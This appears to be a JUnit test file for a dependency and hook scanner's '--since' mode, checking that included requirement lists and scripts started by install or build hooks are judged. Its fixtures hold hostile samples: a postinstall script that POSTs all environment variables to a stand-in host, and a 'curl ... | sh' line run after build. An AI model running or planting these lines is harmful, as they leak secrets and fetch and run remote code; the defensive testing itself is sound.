package dev.assay.app.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.connectors.git.GitFolder;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import org.eclipse.jgit.api.errors.GitAPIException;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@code --since} where files name others: lists that lists include, programs that hooks start. */
class SinceNamedFilesTest {
    private static final String BAD = "evilpkg==1.0.0\n";
    private static final String HOOK = "{\"name\": \"p\", \"scripts\": {\"postinstall\": \"node install.js\"}}";
    private static final String HARMLESS = "console.log(1)\n";
    private static final String HARM =
            "const req = require('https').request({hostname: 'a.example', method: 'POST'});\n"
                    + "req.end(JSON.stringify(process.env));\n";

    @TempDir
    private Path folder;

    private Path root;

    @BeforeEach
    void make() throws IOException {
        root = Files.createDirectory(folder.resolve("tree"));
        Files.writeString(folder.resolve("bad.csv"), "ecosystem,name,version\npypi,evilpkg,1.0.0\n");
    }

    private GitFolder committed(String... namesAndTexts) throws IOException, GitAPIException {
        GitFolder tree = new GitFolder(root);
        for (int i = 0; i < namesAndTexts.length; i += 2) {
            tree.write(namesAndTexts[i], namesAndTexts[i + 1]);
        }
        tree.write("README", "one\n").commit("first");
        return tree;
    }

    private Report since(Cli cli, String... more) {
        String[] line = {"--since", "HEAD", "--indicators", "../bad.csv", "."};
        String[] all = Arrays.copyOf(more, more.length + line.length);
        System.arraycopy(line, 0, all, more.length, line.length);
        return Report.of(cli, all);
    }

    private Report since() {
        return since(new Cli(root));
    }

    @Test
    void listsThatHaveNotChangedAreReadWhereOthersIncludeThem() throws IOException, GitAPIException {
        try (GitFolder tree = committed(
                "requirements.txt",
                "-r requirements/base.txt\n-r a.lst\n-c LICENSE\n",
                "LICENSE",
                "six<2\n",
                "requirements/base.txt",
                "six==1.16.0\n",
                "a.lst",
                "-r deep.lst\n" + BAD,
                "deep.lst",
                "flask==3\n")) {
            tree.write("README", "two\n");
            assertThat(since().gaps()).isEmpty();
            assertThat(since().findings()).isEmpty(); // nothing that is judged names a.lst
            assertThat(since(new Cli(root), "--exclude", "deep.lst").gaps())
                    .singleElement()
                    .asString()
                    .startsWith("a.lst"); // which includes it
        }
    }

    @Test
    void whatAChangedListIncludesIsJudgedThoughItHasNotChanged() throws IOException, GitAPIException {
        try (GitFolder tree = committed("requirements.txt", "flask==3\n", "x.lst", "-r y.lst\n", "y.lst", BAD)) {
            tree.write("requirements.txt", "flask==3\n-r x.lst\n");
            assertThat(since().findings()).singleElement().asString().startsWith("y.lst");
            assertThat(since().gaps()).isEmpty();
        }
    }

    @Test
    void aChangedListIsJudgedThoughNothingThatNamesItHasChanged() throws IOException, GitAPIException {
        try (GitFolder tree =
                committed("requirements.txt", "-r a.lst\n", "a.lst", "-r deep.lst\n", "deep.lst", "flask==3\n")) {
            tree.write("deep.lst", BAD);
            assertThat(since().findings()).singleElement().asString().startsWith("deep.lst");
            assertThat(since().gaps()).isEmpty();
        }
    }

    @Test
    void aHookThatHasNotChangedStartsWhatHas() throws IOException, GitAPIException {
        try (GitFolder tree = committed("package.json", HOOK, "install.js", HARMLESS)) {
            tree.write("install.js", HARM);
            assertThat(since().findings()).singleElement().asString().startsWith("install.js");
        }
    }

    @Test
    void whatAHookStartsMayBeNew() throws IOException, GitAPIException {
        String project =
                "<Project><Target Name=\"x\" AfterTargets=\"Build\"><Exec Command=\"sh ./x.sh\"/></Target></Project>";
        try (GitFolder tree = committed("a.csproj", project, "package.json", HOOK)) {
            tree.write("install.js", HARM).write("x.sh", "curl -s http://192.0.2.1/x | sh\n");
            assertThat(since().findings())
                    .anyMatch(each -> each.startsWith("install.js"))
                    .anyMatch(each -> each.startsWith("x.sh"));
        }
    }

    @Test
    void aChangedHookStartsWhatHasNotChanged() throws IOException, GitAPIException {
        try (GitFolder tree = committed("package.json", "{\"name\": \"p\"}", "install.js", HARM)) {
            tree.write("package.json", HOOK);
            assertThat(since().findings()).singleElement().asString().startsWith("install.js");
        }
    }

    @Test
    void whatAnUnchangedHookStartsUnchangedIsNoNews() throws IOException, GitAPIException {
        try (GitFolder tree = committed("package.json", HOOK, "install.js", HARM)) {
            tree.write("README", "two\n");
            assertThat(since().findings()).isEmpty();
            assertThat(Report.of(new Cli(root), ".").findings()).hasSize(1);
        }
    }

    @Test
    void theCacheMakesNoDifference() throws IOException, GitAPIException, InterruptedException {
        Files.write(root.resolve("0-large.bin"), new byte[300_000]); // so that the store is worth opening
        try (GitFolder tree = committed(
                "requirements.txt", "-r a.lst\n", "a.lst", "six==1.16.0\n", "package.json", HOOK, "install.js", HARM)) {
            Thread.sleep(2_100); // until then no identity is trusted
            Path cache = folder.resolve("cache");
            Report.of(new Cli(root).cache(cache), ".");
            tree.write("README", "two\n");
            Report nothing = since(new Cli(root).cache(cache));
            assertThat(nothing.gaps()).isEmpty();
            assertThat(nothing.findings()).isEmpty();
            tree.write("install.js", HARM + HARMLESS).write("requirements.txt", "-r a.lst\n-r b.lst\n");
            tree.write("b.lst", BAD);
            assertThat(since(new Cli(root).cache(cache)).findings())
                    .anyMatch(each -> each.startsWith("install.js"))
                    .anyMatch(each -> each.startsWith("b.lst"));
        }
    }
}
